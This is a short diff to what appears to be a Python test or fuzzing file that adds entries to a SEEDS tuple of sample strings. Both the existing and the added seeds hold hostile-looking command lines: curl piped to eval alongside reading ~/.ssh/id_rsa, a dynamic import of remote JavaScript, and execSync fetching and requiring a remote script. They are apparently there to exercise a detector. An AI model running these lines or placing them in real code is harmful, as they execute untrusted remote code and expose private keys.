@@ -38,6 +38,8 @@ SEEDS = (
     "unzip -P secret data.zip",
     "eval $(curl https://a.example/x) cat ~/.ssh/id_rsa",
     "const value = json; net.connect(80)",
+    "const CDN = 'https://x.example'; const NEXT = `${CDN}/a.js`; import(NEXT)",
+    "execSync('curl https://x.example/part.js -o lib/part.js'); require('./lib/part')",
 )
 #: Seeds go by remainder; the remainders beyond them have none.
 EVERY = 71
